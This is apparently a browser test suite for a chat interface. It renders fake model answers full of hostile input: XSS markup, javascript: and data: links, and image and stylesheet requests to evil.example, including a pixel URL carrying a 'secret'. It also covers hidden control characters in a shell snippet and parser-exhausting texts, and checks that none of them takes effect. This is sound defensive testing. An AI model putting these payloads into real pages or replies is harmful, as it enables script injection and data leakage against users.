/**
 * What a model says is hostile input. The answers here are fakes, put into the proxy's place in the browser, since no model says
 * such things on request; the page that shows them is the real one. Each attack is first shown to work on a page that makes
 * HTML of what it is given.
 */
import assert from "node:assert/strict";
import { startServe } from "../support/serve.ts";
import { hasChromium, isFull, visit } from "./browser.ts";
import { fakeReplies, show } from "./fake_replies.ts";

const ignore = !hasChromium() || !isFull("hostile answers in a browser");

/** Markup that sets `hit`, each by another way in. */
const MARKUP = [
  `<img src=x onerror="hit=1">`,
  `<svg onload="hit=1"></svg>`,
  `<svg><animate onbegin="hit=1" attributeName=x dur=1s></svg>`,
  `<details open ontoggle="hit=1"><summary>x</summary></details>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit=1&gt;">`,
  `<video><source onerror="hit=1"></video>`,
  `<body onload="hit=1"><input autofocus onfocus="hit=1">`,
  `<object data="javascript:parent.hit=1"></object>`,
  `<form action="javascript:hit=1"><button id=go>go</button></form>`,
  `<style>@import "http://evil.example/x.css";</style><link rel=stylesheet href="http://evil.example/y.css">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/"><a href="x">x</a>`,
];
/** Markdown that would fetch or lead somewhere. */
const MARKDOWN = [
  `![x](http://evil.example/pixel.png?secret)`,
  `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
  `[click](javascript:hit=1)`,
  `[click](JaVaScRiPt:hit=1)`,
  `[click](java\nscript:hit=1)`,
  `[click](data:text/html,<script>hit=1</script>)`,
  `[click](vbscript:hit=1)`,
  `[click](file:///etc/passwd)`,
  `[click](blob:http://127.0.0.1/x)`,
  `<javascript:hit=1>`,
  `[a]: javascript:hit=1\n\n[a]`,
  "```html\n<script>hit=1</script>\n```",
  `| a |\n|---|\n| <img src=x onerror=hit=1> |`,
  `- [ ] <svg/onload=hit=1>`,
  `$\\href{javascript:hit=1}{x}$ $\\url{http://evil.example/}$ \\(\\htmlId{app}{x}\\)`,
  `$$\\includegraphics{http://evil.example/x.png}$$`,
  `$\\text{<img src=x onerror=hit=1>}$ $\\htmlStyle{position:fixed}{x}$ $\\class{composer}{x}$`,
  "```math\n\\style{position:fixed;inset:0}{\\rule{9999em}{9999em}}\n```",
  `http://evil.example/auto and www.evil.example and x@evil.example`,
];

Deno.test({
  name: "hostile: no HTML, script, SVG, picture or link of a model's does anything",
  ignore,
  async fn() {
    const served = await startServe();
    let content = "";
    try {
      await visit(served.proxyUrl, async ({ page, context, asked, said }) => {
        // The attacks work: on a page that makes HTML of them, most of them run, and the others ask for evil.example.
        let alive = 0;
        for (const markup of MARKUP) {
          const from = asked.length;
          // Each has a page of its own: where one leads away to, that comes late.
          const victim = await context.newPage();
          await victim.evaluate(
            `document.open(); document.write(${JSON.stringify(markup)}); document.close()`,
          )
            .catch(() => {});
          await victim.evaluate(
            "new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))",
          ).catch(() => {});
          const hit = await victim.evaluate("globalThis.hit === 1").catch(() => true);
          if (hit || asked.slice(from).some((url) => url.includes("evil.example"))) alive++;
          await victim.close();
        }
        assert.ok(alive >= 7, `only ${alive} attacks work where nothing stops them`);

        await page.locator("#model option").first().waitFor({ state: "attached" });
        const from = asked.length;
        said.length = 0;
        let n = 0;
        for (const text of [...MARKUP, ...MARKDOWN, ...MARKUP.map((m) => `> - **${m}**`)]) {
          content = text;
          await show(page, n++);
        }
        await page.evaluate(
          `document.querySelectorAll("details").forEach((one) => one.open = true)`,
        );
        assert.equal(await page.evaluate("globalThis.hit"), undefined);
        const elsewhere = asked.slice(from).filter((url) => !url.startsWith(served.proxyUrl));
        assert.deepEqual(elsewhere.filter((url) => !url.startsWith("blob:")), []);
        const made = await page.evaluate(
          `[...document.querySelectorAll(".message :is(script, img, svg, iframe, object, form, style, link, meta, base, video, a)")].map((e) => e.outerHTML)`,
        );
        assert.deepEqual(made, [], "no element of the model's own");
        // Nothing was refused by the policy either: nothing was tried.
        assert.deepEqual(
          said.filter((line) => /Content Security Policy|TrustedHTML/i.test(line)),
          [],
        );
        // Every link that is offered leads to http, https or mailto, says where, and opens by a second hand only.
        const links = page.locator(".message button.link");
        const pages = context.pages().length;
        for (let i = 0; i < await links.count(); i++) {
          const address = await links.nth(i).getAttribute("title");
          assert.match(address!, /^(https?:\/\/|mailto:)/);
          await links.nth(i).click();
          const dialog = page.getByRole("dialog");
          assert.ok((await dialog.innerText()).includes(address!));
          assert.match(
            (await dialog.getByRole("link").getAttribute("rel"))!,
            /noopener noreferrer/,
          );
          await page.keyboard.press("Escape");
          await dialog.waitFor({ state: "detached" });
        }
        assert.ok(await links.count() >= 3);
        assert.equal(context.pages().length, pages);
      }, { before: (context) => fakeReplies(context, () => content) });
    } finally {
      await served.stop();
    }
  },
});

Deno.test({
  name:
    "hostile: hidden characters are shown, ANSI is no command, and what is copied has none of them",
  ignore,
  async fn() {
    const served = await startServe();
    const hidden = [
      "\u202e",
      "\u2066",
      "\u2069",
      "\u200b".replace("\u200b", "\u2060"),
      "\u001b",
      "\u0007",
      "\u009b",
      "\u00ad",
      "\ufeff",
      "\u{e0041}",
    ];
    const content = `text ${hidden.map((c) => `a${c}b`).join(" ")}\n\n\`\`\`sh\necho ${
      hidden.join("")
    }rm\n\`\`\`\n`;
    try {
      await visit(served.proxyUrl, async ({ page, context }) => {
        await context.grantPermissions(["clipboard-read", "clipboard-write"]);
        await page.locator("#model option").first().waitFor({ state: "attached" });
        await show(page, 0);
        const shown = await page.locator(".message.assistant .markdown").innerText();
        for (const character of hidden) {
          assert.ok(!shown.includes(character), JSON.stringify(character));
          const code = character.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0");
          assert.ok(shown.split(`U+${code}`).length === 3, `U+${code} twice in ${shown}`);
        }
        await page.getByRole("button", { name: "Copy code" }).click();
        await page.getByRole("button", { name: "Copied" }).waitFor();
        assert.equal(await page.evaluate("navigator.clipboard.readText()"), "echo rm");
      }, { before: (context) => fakeReplies(context, () => content) });
    } finally {
      await served.stop();
    }
  },
});

Deno.test({
  name: "hostile: 10 MB in one line, and texts that are dear to parse, leave the page usable",
  ignore,
  async fn() {
    const served = await startServe();
    const dear = [
      "x".repeat(10_000_000),
      "[".repeat(150_000),
      "*a ".repeat(50_000),
      "> ".repeat(60_000),
      "`".repeat(100_001),
      "- ".repeat(50_000),
      "|".repeat(100_000) + "\n" + "|-".repeat(50_000),
      "![".repeat(50_000),
      "<!--".repeat(40_000),
      "_".repeat(100_000) + "a",
      "\\".repeat(150_000),
      "<a ".repeat(40_000),
      ("a".repeat(3000) + "\n").repeat(60),
      ("**" + "a*_`[".repeat(700) + "\n").repeat(40),
      ("[x](" + "(".repeat(3000) + "\n\n").repeat(40),
      "\n".repeat(150_000),
      "&".repeat(150_000),
      "$x^2$ and\n".repeat(15_000),
      "$".repeat(150_000),
      ("\\(".repeat(900) + "\n").repeat(50),
      ("$" + "{".repeat(990) + "}".repeat(990) + "$\n").repeat(70),
      ("$" + "\\frac12".repeat(220) + "$\n").repeat(90),
      ("$$" + "x^2+".repeat(450) + "y$$\n\n").repeat(90),
      "```math\n" + ("x^2+".repeat(450) + "\n").repeat(105) + "y\n```",
      "```math\nx^2\n```\n".repeat(10_000),
    ];
    let content = "";
    try {
      await visit(served.proxyUrl, async ({ page }) => {
        await page.locator("#model option").first().waitFor({ state: "attached" });
        for (const [n, text] of dear.entries()) {
          content = text;
          await page.getByRole("button", { name: "New", exact: true }).click();
          await show(page, 0);
          // The page answers: a letter that is typed is there.
          await page.locator("#question").fill(`still here ${n}`);
          assert.equal(await page.locator("#question").inputValue(), `still here ${n}`);
          await page.locator("#question").fill("");
        }
        content = dear[0]!;
        await page.getByRole("button", { name: "New", exact: true }).click();
        await show(page, 0);
        await page.getByRole("button", { name: /Show more \(9,980,000 characters left\)/ }).first()
          .waitFor();
        // Paper has all of what the window shows a part of.
        content = "x".repeat(30_000);
        await page.getByRole("button", { name: "New", exact: true }).click();
        await show(page, 0);
        const more = page.locator(".message.assistant .markdown").getByRole("button", {
          name: /Show more \(10,000 characters left\)/,
        });
        await more.waitFor();
        const printed = await page.evaluate(`dispatchEvent(new Event("beforeprint"));
          document.querySelector(".message.assistant .markdown .plain").textContent`);
        assert.equal(printed, content);
        await page.evaluate(`dispatchEvent(new Event("afterprint"))`);
        await more.waitFor();
      }, { before: (context) => fakeReplies(context, () => content) });
    } finally {
      await served.stop();
    }
  },
});
